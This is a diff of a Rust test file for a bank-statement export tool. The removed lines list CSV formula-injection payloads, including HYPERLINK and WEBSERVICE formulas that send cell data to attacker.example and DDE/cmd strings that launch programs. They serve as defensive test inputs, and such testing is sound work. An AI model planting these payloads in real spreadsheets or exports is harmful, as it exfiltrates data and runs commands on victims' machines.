@@ -3,83 +3,11 @@
 use std::path::Path;
 use std::process::Command;
 
-use powens_export::sandbox::{NewAccount, SandboxConfig, World};
+use powens_export::sandbox::{Endpoint, Fault, NewAccount, Nights, Rule, SandboxConfig, World};
 
-use crate::support::{Bank, Done, office, readers};
+use crate::support::{Bank, Done, hostile_texts, office, readers};
 
 const PROFILES: [&str; 6] = ["iso", "fr", "de", "uk", "us", "fr-legacy"];
-
-/// What formulas begin with somewhere, what a guard may overlook in front of it, and what then runs.
-const LEADS: [&str; 10] = ["=", "+", "-", "@", "＝", "＋", "－", "＠", "﹦", "−"];
-const IN_FRONT: [&str; 9] = ["", " ", "\t", "\r", "\n", "\u{A0}", "\u{FEFF}", "\"", "  \""];
-const BODIES: [&str; 3] = ["1+1", "SUM(A1:A9)", "cmd|' /C calc'!A0"];
-
-/// Payloads of OWASP and of advisories, and texts that spreadsheets retype.
-const TEXTS: [&str; 40] = [
-    "=HYPERLINK(\"http://attacker.example?leak=\"&A1&A2,\"Error: please click\")",
-    "=WEBSERVICE(\"http://attacker.example/\"&A1)",
-    "=DDE(\"cmd\";\"/C calc\";\"x\")",
-    "@SUM(1+1)*cmd|' /C calc'!A0",
-    "-2+3+cmd|' /C calc'!D2",
-    "=1+1\";=1+1",
-    "a;=1+1",
-    "a,=1+1",
-    "a\t=1+1",
-    "a\n=1+1",
-    "a\r\n=1+1",
-    "\"=1+1",
-    "'=1+1",
-    "''",
-    "{=1+1}",
-    "#N/A",
-    "VRAI",
-    "false",
-    "00123",
-    "1E5",
-    "1e-5",
-    "12345678901234567890",
-    "+33612345678",
-    "1 234,50",
-    "1.234,50",
-    "-12,50",
-    "12:30",
-    "1/2",
-    "3-4",
-    "22/11/2026",
-    "2026-11-22",
-    "22.5",
-    "22 mai",
-    "5. März",
-    "MARCH1",
-    "13.3.",
-    "5 %",
-    "(12)",
-    "12 €",
-    "½",
-];
-
-/// Texts of the letters that numbers, dates and times are made of.
-fn number_like(count: u64) -> impl Iterator<Item = String> {
-    const LETTERS: [char; 30] = [
-        '0', '1', '2', '3', '4', '5', '6', '7', '8', '9', ' ', '.', ',', ':', '/', '-', '+', 'e', 'E', '%',
-        '(', ')', '\'', '€', '$', '\u{A0}', 'm', 'j', 'a', 't',
-    ];
-    (0..count).map(|n| {
-        let mut state = n.wrapping_mul(0x9E37_79B9_7F4A_7C15) | 1;
-        let mut next = |below: usize| {
-            state = state.wrapping_mul(6_364_136_223_846_793_005).wrapping_add(1_442_695_040_888_963_407);
-            (state >> 33) as usize % below
-        };
-        (0..=next(9)).map(|_| LETTERS[next(LETTERS.len())]).collect()
-    })
-}
-
-fn hostile_texts() -> Vec<String> {
-    let built = LEADS.iter().flat_map(|lead| {
-        IN_FRONT.iter().flat_map(move |front| BODIES.iter().map(move |body| format!("{front}{lead}{body}")))
-    });
-    built.chain(TEXTS.iter().map(|text| (*text).to_owned())).chain(number_like(300)).collect()
-}
 
 /// An account of October whose wordings, counterparties and comments are hostile, and whose amounts are mostly negative.
 fn hostile_account(world: &mut World) -> i64 {
@@ -121,7 +49,7 @@ fn every_pack_reads_back_equal_to_the_lake() {
     let folder = tempfile::tempdir().unwrap();
     let (lake, packs) = (folder.path().join("lake"), folder.path().join("packs"));
     std::fs::create_dir(&packs).unwrap();
-    bank.run(&lake, &[]).expect(3);
+    bank.run(&lake, &[]).expect(0);
     let write = |profile: &str, format: &str, more: &[&str]| {
         let flags = ["--month", "2026-10", "--profile", profile, "--format", format];
         let out = packs.join(format!("{profile}-{format}"));
@@ -168,4 +96,44 @@ fn a_user_kept_with_fewer_dates_says_so_and_has_no_balances() {
     assert_eq!(code, Some(0), "October is held: {balances}");
     assert!(balances.contains("the export holds nothing after 2026-11-10"), "{balances}");
     assert!(!balances.contains("opening and closing, back from"), "{balances}");
+}
+
+/// What a failed night left as it was is not complete, though nobody can say what is missing.
+#[test]
+fn a_user_that_is_carried_is_a_gap_and_has_no_balances() {
+    let bank = Bank::new(SandboxConfig { users: 12, seed: 5, edge_cases: false, ..SandboxConfig::default() });
+    let folder = tempfile::tempdir().unwrap();
+    let (lake, pack) = (folder.path().join("lake"), folder.path().join("pack"));
+    bank.run(&lake, &[]).expect(0);
+    let user = bank.sandbox.with_world(|world| world.users())[0];
+    bank.sandbox.inject(Rule::on(Endpoint::Accounts).user(user).always().fault(Fault::Status(403)));
+    bank.sandbox.night_of(Nights { users_come_and_go: false, ..Nights::default() });
+    bank.run(&lake, &[]).expect(3);
+    let (user, flags) = (user.to_string(), ["--month", "2026-10", "--profile", "iso"]);
+    let done = statements(&bank, &lake, &pack, &[&flags[..], &["--user", &user]].concat()).expect(3);
+    assert!(done.stdout.contains(": not everything could be fetched ("), "{}", done.stdout);
+    let summary = std::fs::read_to_string(pack.join("summary.csv")).unwrap();
+    assert!(summary.lines().nth(1).unwrap().contains("INCOMPLETE"), "{summary}");
+    assert!(summary.contains("Balances not computed: the rows are not complete"), "{summary}");
+}
+
+/// Five hundred accounts and two years: `POWENS_TEST_LAKE=DIR` leaves the lake there, to measure time and memory with.
+#[test]
+#[ignore = "a measurement: half a minute"]
+fn five_hundred_accounts_and_two_years_make_a_pack() {
+    let config = SandboxConfig {
+        users: 167,
+        transactions_per_user: 2_160,
+        edge_cases: false,
+        ..SandboxConfig::default()
+    };
+    let bank = Bank::new(config);
+    let folder = tempfile::tempdir().unwrap();
+    let lake = std::env::var_os("POWENS_TEST_LAKE").map_or_else(|| folder.path().join("lake"), Into::into);
+    bank.run(&lake, &["--quiet"]).expect(0);
+    for format in ["csv", "xlsx", "ofx"] {
+        let out = folder.path().join(format);
+        let report = statements(&bank, &lake, &out, &["--format", format]).stdout;
+        assert!(report.contains("501 accounts, "), "{report}");
+    }
 }
